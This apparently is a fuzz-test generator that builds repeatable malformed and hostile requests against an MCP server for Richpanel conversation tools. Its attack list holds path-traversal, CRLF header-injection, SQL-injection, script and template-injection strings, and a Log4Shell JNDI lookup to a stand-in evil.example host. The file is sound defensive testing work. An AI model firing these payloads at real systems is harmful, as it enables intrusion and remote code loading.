"""Hostile and broken requests to the MCP endpoint, the same ones for the same seed.

The shares follow what such endpoints meet: mutated tool calls, broken encodings and numbers, wrong types, batches and
trailing junk, header games, attacks in arguments, and bodies cut in the middle.
"""

import copy
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

LIST = "list_all_richpanel_conversations"
GET = "get_single_richpanel_conversation_by_id"
UPDATE = "update_a_richpanel_conversation_by_id"
TAG = "create_a_richpanel_conversation_tag"

Header = tuple[bytes, bytes]
JSON_TYPE: Header = (b"content-type", b"application/json")
MODERN_META = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientCapabilities": {},
}
ODD: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    2**53 + 1,
    10**30,
    "",
    "x",
    [],
    {},
    [None],
    {"a": None},
    "\x00",
    "\ud7ff",
    "\U0001d54f" * 50,
)
METHODS = ("tools/call", "tools/list", "initialize", "ping", "server/discover", "resources/list", "x" * 300, "")
VERSIONS = (
    b"2026-07-28",
    b"2025-11-25",
    b"2025-06-18",
    b"2025-03-26",
    b"2024-11-05",
    b"1999-01-01",
    b"",
)
ATTACKS = (
    "../../admin", "..%2f..%2fadmin", "%2e%2e", "..;/x", "\\..\\x", "x?y=1#z", "//evil.example/", "@evil.example",
    "x\r\nHost: evil.example", "x\x00y", "\uff0e\uff0e\uff0f", "' OR 1=1 --", "${jndi:ldap://evil.example}",
    "<script>", "{{7*7}}",
    "a" * 5000, "\u202e\u2066", "\U000e0041", "number", "EMAIL", ".", "..", " ", "\t",
)  # fmt: skip


@dataclass(frozen=True)
class Attempt:
    """One request; `raw` ones are written to the socket as they are, and then the connection is closed."""

    body: bytes
    headers: list[Header] = field(default_factory=lambda: [JSON_TYPE])
    method: str = "POST"
    truncated: bool = False


def attempts(seed: int, count: int) -> Iterator[Attempt]:
    """The first `count` requests of this seed."""
    rng = random.Random(seed)  # noqa: S311 - meant to be repeatable
    makers, weights = zip(*SHARES, strict=True)
    for _ in range(count):
        yield rng.choices(makers, weights)[0](rng)


def call(name: Any, arguments: Any, **more: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": arguments, **more}}


def valid_call(rng: random.Random) -> dict[str, Any]:
    return rng.choice(
        [
            call(LIST, {"limit": rng.randint(1, 100)}),
            call(GET, {"id": "<a@mail.example>"}),
            call(UPDATE, {"id": "x", "comment_body": "hello"}),
            call(TAG, {"conversation_id": "x", "tags": ["a"]}),
        ]
    )


def dumped(value: Any) -> bytes:
    return json.dumps(value).encode("utf-8", errors="surrogatepass")


def mutated(rng: random.Random) -> Attempt:
    body = bytearray(dumped(valid_call(rng)))
    for _ in range(rng.randint(0, 4)):
        place = rng.randrange(len(body))
        match rng.randrange(4):
            case 0:
                body[place] = rng.randrange(256)
            case 1:
                del body[place : place + rng.randint(1, 8)]
            case 2:
                body[place:place] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 6)))
            case _:
                body[place:place] = body[place : place + 20]
        if not body:
            break
    return Attempt(bytes(body))


def encoded(rng: random.Random) -> Attempt:
    depth = rng.choice([10, 33, 100, 2000])
    text = json.dumps(valid_call(rng))
    return Attempt(
        rng.choice(
            [
                b"[" * depth + b"]" * depth,
                b'{"a":' * depth + b"1" + b"}" * depth,
                b"\xef\xbb\xbf" + text.encode(),
                text.encode("utf-16"),
                text.encode() + b"\xff\xfe",
                b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"x":"\\ud800"}}',
                b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"x":"\\u0000"}}',
                b'{"jsonrpc":"2.0","id":1e400,"method":"ping"}',
                b'{"jsonrpc":"2.0","id":NaN,"method":"ping"}',
                b'{"jsonrpc":"2.0","id":' + b"9" * rng.choice([19, 400]) + b',"method":"ping"}',
                b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(2000)) + b"}",
                b'{"jsonrpc":"2.0","id":1,"id":2,"method":"ping","method":"tools/list"}',
                b"\x00" * rng.randint(1, 50),
                b"",
            ]
        )
    )


def odd(rng: random.Random) -> Any:
    # A copy, because what it becomes part of is changed further.
    return copy.deepcopy(rng.choice(ODD))


def mistyped(rng: random.Random) -> Attempt:
    message = valid_call(rng)
    for key in rng.sample([*message, "extra"], rng.randint(1, 3)):
        if rng.random() < 0.3:
            message.pop(key, None)
        else:
            message[key] = odd(rng)
    if isinstance(message.get("params"), dict) and rng.random() < 0.5:
        message["params"][rng.choice(["name", "arguments", "_meta", "cursor"])] = odd(rng)
    return Attempt(dumped(message))


def batched(rng: random.Random) -> Attempt:
    messages: list[Any] = [
        rng.choice([valid_call(rng), {"jsonrpc": "2.0", "method": "notifications/x"}, 1, None, []])
        for _ in range(rng.randint(0, 4))
    ]
    body = dumped(messages * rng.choice([1, 1, 10]))
    junk = rng.choice([b"", b"", b" ", b"\n{}", b"]", body, b"//"])
    return Attempt(body + junk)


def header_game(rng: random.Random) -> Attempt:
    message = rng.choice([valid_call(rng), {"jsonrpc": "2.0", "id": 1, "method": rng.choice(METHODS), "params": {}}])
    if rng.random() < 0.7 and isinstance(message["params"], dict):
        message["params"]["_meta"] = rng.choice(
            [MODERN_META, {}, {**MODERN_META, "x": 1}, {"io.modelcontextprotocol/protocolVersion": 5}]
        )
    name = str(message["params"].get("name", ""))
    headers = [JSON_TYPE]
    options: list[Header] = [
        (b"mcp-protocol-version", rng.choice(VERSIONS)),
        (b"mcp-method", rng.choice([str(message["method"]).encode(), b"ping", b"\xff", b""])),
        (b"mcp-name", rng.choice([name.encode(), b"=?base64?eA==?=", b"=?base64?%%?=", b"x"])),
        (b"mcp-param-x", b"1"),
        (
            b"accept",
            rng.choice(
                [b"*/*", b"text/html", b"application/json;q=0", b"application/json, text/event-stream", b";;q=x"]
            ),
        ),
        (b"mcp-session-id", b"x" * 100),
        (b"origin", rng.choice([b"http://evil.example", b"null", b""])),
        (b"authorization", b"Bearer x"),
        (b"content-encoding", rng.choice([b"gzip", b"identity"])),
    ]
    headers += rng.sample(options, rng.randint(0, 5))
    if rng.random() < 0.2:
        headers.append(rng.choice(options))
    if rng.random() < 0.2:
        headers[0] = (
            b"content-type",
            rng.choice([b"text/plain", b"application/json; charset=latin-1", b"", b"application/JSON"]),
        )
    method = rng.choice(["POST"] * 8 + ["GET", "DELETE", "PUT", "OPTIONS"])
    return Attempt(dumped(message), headers, method)


def modern(rng: random.Random) -> Attempt:
    """A request of 2026-07-28 that is right, or wrong in one place."""
    message = rng.choice([valid_call(rng), {"jsonrpc": "2.0", "id": 1, "method": rng.choice(METHODS), "params": {}}])
    message["params"]["_meta"] = dict(MODERN_META)
    headers = [
        JSON_TYPE,
        (b"mcp-protocol-version", b"2026-07-28"),
        (b"mcp-method", str(message["method"]).encode()),
        (b"mcp-name", str(message["params"].get("name", "x")).encode()),
    ]
    if rng.random() < 0.5:
        del headers[rng.randrange(1, 4)]
    if rng.random() < 0.3:
        message[rng.choice(list(message))] = odd(rng)
    return Attempt(dumped(message), headers)


def attack(rng: random.Random) -> Attempt:
    text = rng.choice(ATTACKS)
    arguments = rng.choice(
        [
            {"id": text},
            {"conversation_id": text, "tags": [text]},
            {"id": "x", "comment_body": text},
            {text: text},
            {"next_cursor": text},
        ]
    )
    return Attempt(dumped(call(rng.choice([LIST, GET, UPDATE, TAG, text]), arguments)))


def truncated(rng: random.Random) -> Attempt:
    body = dumped(valid_call(rng))
    return Attempt(body[: rng.randrange(len(body))], truncated=True)


SHARES: tuple[tuple[Callable[[random.Random], Attempt], int], ...] = (
    (mutated, 40),
    (encoded, 15),
    (mistyped, 10),
    (batched, 10),
    (header_game, 5),
    (modern, 5),
    (attack, 10),
    (truncated, 5),
)
